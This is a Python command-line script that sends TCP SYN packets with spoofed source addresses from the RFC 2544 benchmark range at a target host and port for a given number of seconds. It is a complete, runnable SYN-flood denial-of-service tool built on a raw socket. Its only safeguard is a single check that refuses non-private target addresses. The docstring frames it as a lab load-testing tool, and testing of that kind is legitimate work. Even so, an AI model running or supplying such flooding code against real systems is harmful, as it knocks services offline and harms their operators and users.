"""`syn_flood ADDRESS PORT SECONDS`: SYNs from strangers as fast as it can.

Prints how many. Sources are those set aside for benchmarks (RFC 2544), which nobody in a lab has.
Only from inside a lab: it refuses addresses that are not private.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time

STRANGERS = int(ipaddress.IPv4Address("198.18.0.0"))
BATCH = 2000


def checksum(data: bytes) -> int:
    return 0xFFFF - int.from_bytes(data, "big") % 0xFFFF


def syn(target: bytes, port: int, dice: random.Random) -> bytes:
    """IP and TCP header; the kernel fills in the IP checksum."""
    source = struct.pack("!I", STRANGERS + dice.randrange(1 << 17))
    tcp = struct.pack(
        "!HHIIBBHHH",
        dice.randrange(1024, 65536),
        port,
        dice.getrandbits(32),
        0,
        5 << 4,
        2,
        64240,
        0,
        0,
    )
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target + tcp


def main(address: str, port: int, seconds: float) -> None:
    if not ipaddress.ip_address(address).is_private:
        raise SystemExit(f"{address} is not an address of a lab")
    dice, target, sent = random.Random(1), socket.inet_aton(address), 0
    packets = [syn(target, port, dice) for _ in range(BATCH)]
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < end:
            for packet in packets:
                raw.sendto(packet, (address, 0))
            sent += BATCH
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
